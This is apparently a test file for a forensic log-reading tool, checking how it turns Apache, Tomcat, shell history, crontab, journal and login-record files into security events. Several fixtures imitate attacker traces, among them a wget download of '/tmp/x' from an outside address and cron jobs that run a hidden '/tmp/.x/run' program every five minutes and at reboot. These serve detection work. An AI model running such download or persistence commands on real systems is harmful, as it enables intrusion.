import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { isoFromMicros, type SecurityEvent } from '../src/model/index.ts'
import { readers } from '../src/readers/registry.ts'
import { bytesPart, bytesSample, readPart } from './bytes-part.ts'
import { readAs, recording } from './recordings.ts'
import { sharedData } from './shared-data.ts'
import { columnsOf } from './text-part.ts'

const bytes = (text: string) => Buffer.from(text)
const told = (event: SecurityEvent) =>
  [event.time === undefined ? '' : isoFromMicros(event.time).slice(0, 19), columnsOf(event)] as const

type Case = readonly [
  format: string,
  path: string,
  text: string,
  events: readonly (readonly [time: string, columns: Record<string, unknown>])[],
]
const CASES: readonly Case[] = [
  [
    'apache-error',
    'apache2/error.log',
    '[Tue Aug 15 05:34:25.123456 2023] [php:error] [pid 12:tid 139] [client 203.0.113.9:5022] PHP Warning:  system(): bad in /var/www/a.php on line 3, referer: http://www.example/\n[Tue Aug 15 05:34:26 2023] [error] [client 203.0.113.9] File does not exist: /var/www/x.php\nsh: 1: nmapp: not found\n[Tue Aug 15 05:34:27.000000 2023] [mpm_prefork:notice] [pid 12] AH00163: Apache/2.4.57 configured\n',
    [
      [
        '2023-08-15T05:34:25',
        {
          kind: 'other_activity',
          srcIp: '203.0.113.9',
          message: 'PHP Warning:  system(): bad in /var/www/a.php on line 3, referer: http://www.example/',
        },
      ],
      ['2023-08-15T05:34:26', { kind: 'other_activity', srcIp: '203.0.113.9', message: 'File does not exist: /var/www/x.php' }],
      ['', { kind: 'other_activity', message: 'sh: 1: nmapp: not found' }],
      ['2023-08-15T05:34:27', { kind: 'other_activity', message: 'AH00163: Apache/2.4.57 configured' }],
    ],
  ],
  [
    'php-error',
    'php7.4-fpm.log',
    '[15-Aug-2023 05:34:25] NOTICE: fpm is running, pid 1\n[15-Aug-2023 05:34:26 Europe/Berlin] PHP Warning:  system() in /var/www/a.php\nStack trace:\n#0 {main}\n  thrown in /var/www/a.php on line 3\n',
    [
      ['2023-08-15T05:34:25', { kind: 'other_activity', message: 'fpm is running, pid 1' }],
      [
        '2023-08-15T03:34:26',
        {
          kind: 'other_activity',
          message: 'PHP Warning:  system() in /var/www/a.php\nStack trace:\n#0 {main}\n  thrown in /var/www/a.php on line 3',
        },
      ],
    ],
  ],
  [
    'tomcat-log',
    'catalina.2023-08-15.log',
    '15-Aug-2023 05:34:25.123 INFO [main] org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive [/opt/tomcat/webapps/up.war]\n15-Aug-2023 05:34:26.000 INFO [main] org.apache.catalina.startup.HostConfig.deployWAR Deployment of web application archive [/opt/tomcat/webapps/up.war] has finished in [3] ms\n15-Aug-2023 05:34:27.000 SEVERE [exec-1] org.apache.catalina.core.StandardWrapperValve.invoke Servlet threw\n\tjava.lang.NullPointerException\n\t\tat org.apache.jsp.a_jsp._jspService(a_jsp.java:9)\n15-Aug-2023 05:35:25.123 INFO [exec-2] org.apache.catalina.startup.HostConfig.undeploy Undeploying context [/up]\n',
    [
      ['2023-08-15T05:34:25', { kind: 'service_activity', action: 'start', name: 'up.war', path: '/opt/tomcat/webapps/up.war' }],
      [
        '2023-08-15T05:34:26',
        {
          kind: 'other_activity',
          image: 'org.apache.catalina.startup.HostConfig.deployWAR',
          message: 'Deployment of web application archive [/opt/tomcat/webapps/up.war] has finished in [3] ms',
        },
      ],
      [
        '2023-08-15T05:34:27',
        {
          kind: 'other_activity',
          image: 'org.apache.catalina.core.StandardWrapperValve.invoke',
          message: 'Servlet threw\n\tjava.lang.NullPointerException\n\t\tat org.apache.jsp.a_jsp._jspService(a_jsp.java:9)',
        },
      ],
      ['2023-08-15T05:35:25', { kind: 'service_activity', action: 'stop', name: '/up' }],
    ],
  ],
  [
    'tomcat-log',
    'catalina.out',
    'Aug 15, 2023 5:34:25 PM org.apache.catalina.startup.HostConfig deployDirectory\nINFO: Deploying web application directory /opt/x\n',
    [
      [
        '2023-08-15T17:34:25',
        {
          kind: 'other_activity',
          image: 'org.apache.catalina.startup.HostConfig deployDirectory',
          message: 'Deploying web application directory /opt/x',
        },
      ],
    ],
  ],
  [
    'application-log',
    'app.log',
    '2023-08-15T05:34:25.123Z  INFO 1 --- [main] org.example.App : started\n2023-08-15 05:34:26,123 ERROR [x] failed from 203.0.113.9\n\tat org.example.App\n',
    [
      ['2023-08-15T05:34:25', { kind: 'other_activity', message: '1 --- [main] org.example.App : started' }],
      [
        '2023-08-15T05:34:26',
        { kind: 'other_activity', srcIp: '203.0.113.9', message: '[x] failed from 203.0.113.9\n\tat org.example.App' },
      ],
    ],
  ],
  [
    'dnf-log',
    'dnf.rpm.log',
    '2023-08-15T05:34:25+0200 INFO --- logging initialized ---\n2023-08-15T05:34:25+0200 SUBDEBUG Installed: nmap-3:7.92-1.el9.x86_64\n',
    [['2023-08-15T03:34:25', { kind: 'other_activity', message: 'package installed: nmap-3:7.92-1.el9.x86_64' }]],
  ],
  [
    'shell-history',
    'home/ora/.bash_history',
    '#1692077665\nwget http://203.0.113.9/x -O /tmp/x\n#1692077666\ncat <<E\nhello\nE\n',
    [
      [
        '2023-08-15T05:34:25',
        {
          kind: 'process_activity',
          action: 'start',
          image: 'wget',
          commandLine: 'wget http://203.0.113.9/x -O /tmp/x',
          parentImage: 'bash',
          user: 'ora',
        },
      ],
      [
        '2023-08-15T05:34:26',
        {
          kind: 'process_activity',
          action: 'start',
          image: 'cat',
          commandLine: 'cat <<E\nhello\nE',
          parentImage: 'bash',
          user: 'ora',
        },
      ],
    ],
  ],
  [
    'shell-history',
    'root/.zsh_history',
    ': 1692077665:0;sudo id\n: 1692077670:3;LANG=C ls\n',
    [
      [
        '2023-08-15T05:34:25',
        { kind: 'process_activity', action: 'start', image: 'id', commandLine: 'sudo id', parentImage: 'zsh', user: 'root' },
      ],
      [
        '2023-08-15T05:34:30',
        { kind: 'process_activity', action: 'start', image: 'ls', commandLine: 'LANG=C ls', parentImage: 'zsh', user: 'root' },
      ],
    ],
  ],
  [
    'shell-history',
    'uploads/auto/%2Fhome%2Fora%2F/home/ora/.bash_history',
    'id\nwhoami\n',
    [
      ['', { kind: 'process_activity', action: 'start', image: 'id', commandLine: 'id', parentImage: 'sh', user: 'ora' }],
      ['', { kind: 'process_activity', action: 'start', image: 'whoami', commandLine: 'whoami', parentImage: 'sh', user: 'ora' }],
    ],
  ],
  [
    'powershell-history',
    'C/Users/ora/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt',
    'whoami\nGet-ADUser `\n -Filter *\n',
    [
      ['', { kind: 'script_activity', engine: 'PowerShell', text: 'whoami', user: 'ora', hostApplication: 'ConsoleHost' }],
      [
        '',
        {
          kind: 'script_activity',
          engine: 'PowerShell',
          text: 'Get-ADUser \n -Filter *',
          user: 'ora',
          hostApplication: 'ConsoleHost',
        },
      ],
    ],
  ],
  [
    'crontab',
    'var/spool/cron/crontabs/ora',
    '# m h\nPATH=/bin\n*/5 * * * * /tmp/.x/run >/dev/null\n@reboot /home/ora/x\n',
    [
      [
        '',
        {
          kind: 'scheduled_job_activity',
          action: 'found',
          name: '*/5 * * * *',
          command: '/tmp/.x/run >/dev/null',
          account: 'ora',
        },
      ],
      ['', { kind: 'scheduled_job_activity', action: 'found', name: '@reboot', command: '/home/ora/x', account: 'ora' }],
    ],
  ],
]

test.each(CASES)('%s: %s', (format, path, text, events) => {
  const read = readAs(path, bytes(text))
  expect(read.reader?.format).toBe(format)
  expect(read.events.map(told)).toEqual(events)
  expect(read.diagnostics.filter(({ level }) => level !== 'note')).toEqual([])
})

test('yum says nothing of the year', () => {
  const read = readAs('yum.log', bytes('Aug 15 05:34:25 Installed: nmap-2:6.40-19.el7.x86_64\nAug 16 05:34:25 Erased: nmap\n'))
  expect(read.reader?.format).toBe('dnf-log')
  expect(read.events.map(told)).toEqual([
    ['1972-08-15T05:34:25', { kind: 'other_activity', message: 'package installed: nmap-2:6.40-19.el7.x86_64' }],
    ['1972-08-16T05:34:25', { kind: 'other_activity', message: 'package erased: nmap' }],
  ])
  expect(read.diagnostics.map(({ code }) => code)).toEqual(['dnf-log/no-year'])
})

test('a history without times: each command has a line of its own', () => {
  const { events } = readAs('root/.bash_history', bytes('id\nwhoami\nls \\\n -l\n'))
  expect(events.map(event => [event.source.record, columnsOf(event)['commandLine']])).toEqual([
    [1, 'id'],
    [2, 'whoami'],
    [3, 'ls \\\n -l'],
  ])
})

test('Sysmon for Linux within syslog is the event it carries', () => {
  const xml =
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>1</EventID><TimeCreated SystemTime="2023-08-15T05:34:25.120000000Z"/><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>gw01</Computer></System><EventData><Data Name="Image">/usr/bin/dash</Data><Data Name="CommandLine">sh -c id</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/sbin/apache2</Data></EventData></Event>'
  const read = readAs('syslog', bytes(`Aug 15 05:34:25 gw01 sysmon: ${xml}\nAug 15 05:34:26 gw01 sshd[7]: hello\n`))
  expect(read.reader?.format).toBe('syslog')
  expect(read.events.map(event => [event.kind, event.product, event.code, event.host])).toEqual([
    ['process_activity', 'sysmon', '1', 'gw01'],
    ['other_activity', 'sshd', '', 'gw01'],
  ])
  expect(columnsOf(read.events[0])).toEqual({
    kind: 'process_activity',
    action: 'start',
    image: '/usr/bin/dash',
    commandLine: 'sh -c id',
    user: 'www-data',
    parentImage: '/usr/sbin/apache2',
  })
})

const JOURNAL = [
  ['2023-08-15T05:34:25', 'sshd', 'authentication'],
  ['2023-08-15T05:34:26', 'sudo', 'process_activity'],
  ['2023-08-15T05:34:27', 'syslog', 'service_activity'],
  ['2023-08-15T05:34:28', 'syslog', 'other_activity'],
  ['2023-08-15T05:34:29', 'syslog', 'other_activity'],
]

test.each([
  ['journal-file', 'plain.journal.gz'],
  ['journal-file', 'compact.journal.gz'],
  ['journal-json', 'journal.json'],
  ['journal-export', 'journal.export'],
])('%s: %s, written by systemd, gives the entries that were put in', (format, name) => {
  const read = readAs(name.replace('.gz', ''), recording(name))
  expect(read.reader?.format).toBe(format)
  expect(read.diagnostics).toEqual([])
  expect(read.events.map(event => [told(event)[0], event.product, event.kind])).toEqual(JOURNAL)
  expect(read.events.every(event => event.host === 'gw01')).toBe(true)
  expect(read.events[3]?.original.get('MESSAGE')).toBe('first line\nsecond line \0 binary')
  expect(read.events[4]?.original.get('MESSAGE')?.length).toBe(2000)
})

test('the same entry has one identity in all three forms', () => {
  const identities = ['plain.journal.gz', 'journal.json', 'journal.export'].map(name =>
    readAs(name.replace('.gz', ''), recording(name)).events.map(({ identity }) => identity),
  )
  expect(identities[1]).toEqual(identities[0])
  expect(identities[2]).toEqual(identities[0])
})

test('wtmp and btmp as utmpdump writes them', () => {
  expect(readAs('var/log/wtmp', recording('wtmp')).events.map(told)).toEqual([
    ['2023-08-15T05:00:00', { kind: 'other_activity', message: 'the machine started (6.1.0-10-amd64)' }],
    [
      '2023-08-15T05:34:25',
      {
        kind: 'authentication',
        action: 'session',
        outcome: 'success',
        user: 'ora',
        srcIp: '203.0.113.9',
        protocol: 'terminal',
        logonId: 'pts/0/812',
      },
    ],
    [
      '2023-08-15T05:44:25',
      { kind: 'authentication', action: 'logoff', outcome: 'success', protocol: 'terminal', logonId: 'pts/0/812' },
    ],
    ['2023-08-15T06:00:00', { kind: 'other_activity', message: 'the machine was shut down (6.1.0-10-amd64)' }],
  ])
  expect(readAs('var/log/btmp', recording('btmp')).events.map(told)).toEqual([
    [
      '2023-08-15T05:33:00',
      { kind: 'authentication', action: 'logon', outcome: 'failure', user: 'admin', srcIp: '203.0.113.9', protocol: 'ssh' },
    ],
    [
      '2023-08-15T05:33:02',
      { kind: 'authentication', action: 'logon', outcome: 'failure', user: 'root', srcIp: '203.0.113.9', protocol: 'ssh' },
    ],
  ])
})

test('a record of zeros between written ones is told', () => {
  const wiped = Buffer.from(recording('wtmp'))
  wiped.fill(0, 384, 768)
  const { events, diagnostics } = readAs('wtmp', wiped)
  expect(diagnostics).toEqual([])
  expect(columnsOf(events[1])).toEqual({
    kind: 'log_activity',
    action: 'blanked',
    log: 'wtmp',
    detail: 'log-in record 2 holds nothing but zeros',
  })
})

test('lastlog: the place of a record is its account', () => {
  const all = Buffer.alloc(292 * 1001)
  all.writeUInt32LE(1_692_077_665, 292 * 1000)
  all.write('pts/0', 292 * 1000 + 4)
  all.write('203.0.113.9', 292 * 1000 + 36)
  const { reader, events } = readAs('var/log/lastlog', all)
  expect(reader?.format).toBe('lastlog')
  expect(events.map(event => [event.source.record, ...told(event)])).toEqual([
    [
      1001,
      '2023-08-15T05:34:25',
      {
        kind: 'authentication',
        action: 'session',
        outcome: 'success',
        user: '1000',
        srcIp: '203.0.113.9',
        protocol: 'last log-in',
      },
    ],
  ])
})

test('authorized_keys: fingerprints as ssh-keygen prints them', () => {
  const { reader, events, diagnostics } = readAs('home/ora/.ssh/authorized_keys', recording('authorized_keys'))
  expect([reader?.format, diagnostics]).toEqual(['authorized-keys', []])
  const fingerprint = recording('authorized_keys.fingerprint').toString().trim()
  expect(events.map(event => columnsOf(event))).toEqual([
    {
      kind: 'device_config',
      action: 'found',
      user: 'ora',
      object: 'authorized-key',
      attribute: `ssh-ed25519 ${fingerprint}`,
      command: 'ora@workstation',
    },
    {
      kind: 'device_config',
      action: 'found',
      user: 'ora',
      object: 'authorized-key',
      attribute: `ssh-ed25519 ${fingerprint}`,
      command: 'from="203.0.113.0/24",no-pty ora@workstation',
    },
  ])
})

test('package logs, cron tables and units of a Debian', () => {
  const summary = (path: string, name: string) => {
    const { reader, events, diagnostics } = readAs(path, recording(name))
    return [reader?.format, diagnostics.filter(({ level }) => level !== 'note').length, events.length, columnsOf(events[0])]
  }
  expect(summary('var/log/dpkg.log', 'dpkg.log')).toEqual([
    'dpkg-log',
    0,
    2,
    { kind: 'other_activity', message: 'package upgraded: libsystemd0:amd64 252.38-1~deb12u1' },
  ])
  expect(summary('var/log/apt/history.log', 'apt-history.log').slice(0, 2)).toEqual(['apt-history', 0])
  expect(summary('var/log/apt/history.log', 'apt-history.log')[3]).toEqual({
    kind: 'process_activity',
    action: 'start',
    image: 'apt-get',
    commandLine: 'apt-get -qqy upgrade',
    user: 'root',
  })
  expect(summary('etc/cron.d/e2scrub_all', 'cron.d-e2scrub_all')).toEqual([
    'crontab',
    0,
    2,
    {
      kind: 'scheduled_job_activity',
      action: 'found',
      name: '30 3 * * 0',
      account: 'root',
      command: 'test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
    },
  ])
  expect(summary('etc/systemd/system/ssh.service', 'ssh.service')).toEqual([
    'systemd-unit',
    0,
    1,
    {
      kind: 'service_activity',
      action: 'found',
      name: 'ssh.service',
      account: 'root',
      startType: 'multi-user.target',
      path: '/usr/sbin/sshd -D $SSHD_OPTS; /usr/sbin/sshd -t; /usr/sbin/sshd -t; /bin/kill -HUP $MAINPID',
    },
  ])
  expect(summary('etc/systemd/system/apt-daily.timer', 'apt-daily.timer').slice(0, 3)).toEqual(['systemd-unit', 0, 1])
})

test('an error log of nginx', () => {
  const { reader, events, diagnostics } = readAs('nginx/error.log', recording('nginx-error.log'))
  expect([reader?.format, diagnostics]).toEqual(['nginx-error', []])
  expect(events.filter(event => event.kind === 'other_activity' && event.srcIp === '127.0.0.1').length).toBe(4)
})

const samples = sharedData('log-formats', 'plaso')
test.skipIf(samples === undefined).each([
  ['vsftpd.log', 'vsftpd'],
  ['cri.log', 'container-log'],
  ['atlassian-confluence.log', 'application-log'],
  ['bash_history', 'shell-history'],
  ['bash_history_desync', 'shell-history'],
  ['audit_enriched.log', 'auditd'],
  ['selinux.log', 'auditd'],
])('real %s is read as %s', (name, format) => {
  const text = readFileSync(`${samples}/${name}`)
  const { reader, events, diagnostics } = readAs(name, text)
  expect(reader?.format).toBe(format)
  // Two lines of the SELinux sample have no type or name none; they are there to be refused.
  expect(diagnostics.filter(({ level }) => level !== 'note').length).toBe(name === 'selinux.log' ? 2 : 0)
  expect(events.length).toBeGreaterThan(2)
})

const BINARY = readers.filter(({ format }) => ['journal-file', 'journal-export', 'utmp', 'lastlog'].includes(format))
/** A file and the range in which something is written: a journal begins with megabytes of tables and ends with room for later. */
const SEEDS = ['plain.journal.gz', 'compact.journal.gz', 'journal.export', 'wtmp', 'btmp'].map(name => {
  const bytes = recording(name)
  const tail = name.includes('.journal') ? Number(bytes.readBigUInt64LE(136)) + 256 : bytes.length
  return { bytes: bytes.subarray(0, tail), from: Math.max(0, tail - 6000), length: Math.min(tail, 6000) }
})

test('mutated and random bytes never throw and never hang, whichever of the readers gets them', () => {
  expect(BINARY).toHaveLength(4)
  const edits = fc.array(fc.tuple(fc.nat(5999), fc.nat(255)), { minLength: 1, maxLength: 12 })
  const random = fc.uint8Array({ minLength: 1, maxLength: 2000 }).map(bytes => ({ bytes, from: 0, length: bytes.length }))
  fc.assert(
    fc.property(
      fc.oneof(fc.constantFrom(...SEEDS), random),
      edits,
      fc.boolean(),
      ({ bytes: seed, from, length }, changes, isHead) => {
        const bytes = Uint8Array.from(seed)
        // Half of the time the head is what is broken.
        for (const [at, value] of changes) bytes[isHead ? at % Math.min(264, bytes.length) : from + (at % length)] = value
        for (const reader of BINARY) {
          const score = reader.recognise(bytesSample(bytes, 'var/log/wtmp'))
          expect(score >= 0 && score <= 100).toBe(true)
          if (score > 0 || bytes.length < 10_000) readPart(reader, bytesPart(bytes, { path: 'x' }))
        }
      },
    ),
    { numRuns: 150 },
  )
})

test('a journal that is cut says where, and keeps what came before', () => {
  const whole = recording('plain.journal.gz')
  const { events, diagnostics } = readAs('system.journal', whole.subarray(0, whole.length - 3_000_000))
  const cut = readAs('system.journal', whole.subarray(0, 7000))
  expect(events.length).toBe(5)
  expect(diagnostics.filter(({ level }) => level === 'error')).toEqual([])
  expect(cut.events.length).toBeLessThan(5)
})
